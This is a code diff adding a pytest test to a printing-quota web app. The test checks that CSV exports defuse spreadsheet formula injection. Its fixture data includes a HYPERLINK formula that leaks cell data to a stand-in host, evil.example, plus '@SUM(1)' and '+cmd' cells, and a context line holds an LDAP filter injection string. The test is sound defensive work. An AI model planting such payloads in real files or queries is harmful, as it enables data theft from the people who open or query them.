@@ -8,12 +8,15 @@ import re
 import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
+from datetime import datetime, timezone
 
 import pytest
 
 from pykota_ldap.config import Config
-from pykota_ldap.directory import Directory, accounts, printers, quotas
+from pykota_ldap.directory import Directory, accounts, history, printers, quotas
 from pykota_ldap.directory.login import password_is_right
+from pykota_ldap.model import Job
+from pykota_ldap.report.formats import writer_for
 from pykota_ldap.testing.printer import postscript
 from pykota_ldap.testing.slapd import Slapd
 from pykota_ldap.web import auth as login_module
@@ -145,6 +148,26 @@ def test_an_admin_may_look_at_anyone(app):
     assert page.status_code == 200 and 'id="subject">bob<' in page.text
     assert client.get("/admin/report?mask=*)(uid=*").status_code == 200
     assert client.get("/admin/export/download?dataset=nothing&format=csv").status_code == 400
+
+
+def test_an_export_disarms_what_a_spreadsheet_would_run_as_a_formula(app):
+    """A job's title and host are the user's: in a download opened in LibreOffice or Excel a cell
+    starting with = + - @ would run as a formula; it starts with ' there. dumpykota keeps the bytes."""
+    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    job = Job(job_id="4242", user="alice", printer="hp4", date=datetime(2026, 11, 30, 9, tzinfo=timezone.utc),
+              action="ALLOW", size=1, price=100, title=title, hostname="@SUM(1)", filename="+cmd", copies=1)
+    with Directory(app.extensions["pykota"].config.ldap(admin=True)) as d:
+        history.add_job(d, job, history.new_name("hp4"))
+    body = logged_in(app, "jerome", "jeromepw").get("/admin/export/download?dataset=history&format=csv"
+                                                    "&filters=jobid=4242").text
+    line = body.splitlines()[1]
+    assert '"\'=HYPERLINK(\\"http://evil.example/?\\"&A1\\,\\"open\\")"' in line, line
+    assert '"\'@SUM(1)"' in line and '"\'+cmd"' in line and '"alice"' in line, line
+    raw = io.StringIO()
+    writer = writer_for("csv", raw)                                  # dumpykota's writer: the title as it is
+    writer.start("history", ["title"])
+    writer.row({"title": title})
+    assert raw.getvalue().splitlines()[1] == '"=HYPERLINK(\\"http://evil.example/?\\"&A1\\,\\"open\\")"'
 
 
 def test_the_health_check_runs_on_request_for_admins_only(app):
